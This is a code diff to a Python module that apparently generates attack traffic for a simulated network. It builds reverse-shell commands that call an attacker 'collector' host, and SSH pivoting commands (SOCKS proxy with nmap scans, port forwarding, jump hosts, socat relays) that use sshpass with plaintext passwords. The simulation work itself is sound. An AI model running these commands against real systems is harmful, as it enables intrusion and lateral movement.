@@ -23,7 +23,7 @@ def typed(c) -> str:
 def shell(c, connect, listen: str = "ncat -l -p {port}") -> Assault:
     """A shell that connects to the attacker; `connect` makes the command of address and port."""
     host = collector(c)
-    port = c.choose(4444, 1337, 8081, 53535, 5555, 6666, 9090, 8088, *(c.between(10000, 60000) for _ in range(6)))
+    port = c.choose(4444, 1337, 8081, 53535, 6666, *(c.between(10000, 60000) for _ in range(6)))
     listener = f"{typed(c)} | timeout 40 {listen.format(port=port)}"
     return Assault(connect(host.address, port), **listening(listener, host))
 
@@ -79,6 +79,13 @@ def intruding(c, options: str = "") -> tuple[str, str]:
     if c.chance(0.5):
         return user.name, f"timeout 9 ssh {SSH} {key} {options}"
     return user.name, f"sshpass -p '{user.password}' timeout 9 ssh {SSH} -o PubkeyAuthentication=no {options}"
+
+
+def taken_over(c) -> tuple[str, str]:
+    """An account of this run alone, and how to begin a command of an SSH client as that user: what the far end opens for
+    him is then known to be the run's."""
+    user = c.account()
+    return user.name, f"sshpass -p '{user.password}' ssh {SSH} -o PubkeyAuthentication=no"
 
 
 def steps(c) -> str:
@@ -137,7 +144,7 @@ def seen_from(c, pivot: str, count: int) -> list[str]:
 @attack("pivot_socks", technique=PROXY, tool="ssh -D", origins=INSIDE, needs=("ssh", "web"),
         packages=("openssh-client", "proxychains4", "nmap", "curl"), seconds=40)
 def ssh_proxy(c):
-    user, key = key_of(c)
+    user, ssh = taken_over(c)
     pivot, port = c.server("ssh").address, c.between(1080, 1999)
     c.write("proxychains.conf", "strict_chain\ntcp_read_time_out 2500\ntcp_connect_time_out 2500\n[ProxyList]\n"
                                 f"socks4 127.0.0.1 {port}\n")
@@ -145,39 +152,39 @@ def ssh_proxy(c):
                                                c.between(4, 9))))
     web = c.server("web").address
     scan = f"proxychains4 -q -f proxychains.conf nmap -n -Pn -sT -p {probed} {' '.join(seen_from(c, pivot, c.between(1, 3)))};"
-    return Assault(words(f"ssh {SSH} {key} -N -D 127.0.0.1:{port} {user.name}@{pivot} & proxy=$!; sleep 2;",
+    return Assault(words(f"{ssh} -N -D 127.0.0.1:{port} {user}@{pivot} & proxy=$!; sleep 2;",
                          scan if c.chance(0.7) else "",
                          f"for round in $(seq {c.between(2, 8)}); do curl -s -m 5 -x socks5://127.0.0.1:{port} -o /dev/null"
                          f" http://{web}/; {pause(c.between(0.1, 2.0))}; done; kill $proxy; sleep 1"))
 
 
 @attack("pivot_socks", technique=PROXY, tool="ssh -L", origins=INSIDE, needs=("ssh", "web"),
-        packages=("openssh-client", "curl"), seconds=40)
+        packages=("openssh-client", "sshpass", "curl"), seconds=40)
 def ssh_forward(c):
-    user, key = key_of(c)
+    user, ssh = taken_over(c)
     pivot, port = c.server("ssh").address, c.between(9000, 19000)
     web = c.server("web").address
     target = c.choose(*[host.address for host in c.network.servers("ssh")])
-    return Assault(f"ssh {SSH} {key} -N -L {port}:{web}:80 -L {port + 1}:{target}:22 {user.name}@{pivot} & proxy=$!; sleep 2;"
-                   f" for round in $(seq {c.between(2, 6)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{port}/; timeout 7 ssh {SSH}"
-                   f" {key} -p {port + 1} {user.name}@127.0.0.1 \"{steps(c)}\"; {pause(c.between(0.2, 2.0))}; done; kill $proxy; sleep 1")
+    return Assault(f"{ssh} -N -L {port}:{web}:80 -L {port + 1}:{target}:22 {user}@{pivot} & proxy=$!; sleep 2;"
+                   f" for round in $(seq {c.between(2, 6)}); do curl -s -m 5 -o /dev/null http://127.0.0.1:{port}/; timeout 7 {ssh}"
+                   f" -p {port + 1} {user}@127.0.0.1 \"{steps(c)}\"; {pause(c.between(0.2, 2.0))}; done; kill $proxy; sleep 1")
 
 
-@attack("pivot_socks", technique=PROXY, tool="ssh -J", origins=INSIDE, needs=("ssh",), packages=("openssh-client",), seconds=40)
+@attack("pivot_socks", technique=PROXY, tool="ssh -J", origins=INSIDE, needs=("ssh",), packages=("openssh-client", "sshpass"), seconds=40)
 def ssh_jump(c):
-    user, key = key_of(c)
+    user, ssh = taken_over(c)
     pivot = c.server("ssh").address
-    jump = f"-o ProxyCommand='ssh {SSH} {key} -W %h:%p {user.name}@{pivot}'"
+    jump = f'-o "ProxyCommand={ssh} -W %h:%p {user}@{pivot}"'
     return Assault(f"for target in {' '.join(seen_from(c, pivot, c.between(1, 3)))}; do for round in $(seq {c.between(1, 3)}); do"
-                   f" timeout 10 ssh {SSH} {key} {jump} {user.name}@$target \"{steps(c)}\"; {pause(c.between(0.3, 2.0))}; done; done")
+                   f" timeout 10 {ssh} {jump} {user}@$target \"{steps(c)}\"; {pause(c.between(0.3, 2.0))}; done; done")
 
 
 @attack("pivot_socks", technique=PROXY, tool="socat relay", origins=INSIDE, needs=("ssh", "web"),
-        packages=("openssh-client", "socat", "curl"), seconds=40)
+        packages=("openssh-client", "sshpass", "socat", "curl"), seconds=40)
 def relayed(c):
-    user, key = key_of(c)
+    user, ssh = taken_over(c)
     pivot, port = c.server("ssh").address, c.between(20000, 29000)
     target = c.choose(c.server("web").address)
-    return Assault(f"ssh {SSH} {key} {user.name}@{pivot} 'timeout 25 socat TCP-LISTEN:{port},fork,reuseaddr TCP:{target}:80' &"
+    return Assault(f"{ssh} {user}@{pivot} 'timeout 25 socat TCP-LISTEN:{port},fork,reuseaddr TCP:{target}:80' &"
                    f" relay=$!; sleep 2; for round in $(seq {c.between(3, 10)}); do curl -s -m 5 -o /dev/null http://{pivot}:{port}/;"
                    f" {pause(c.between(0.1, 2.0))}; done; kill $relay; sleep 1")
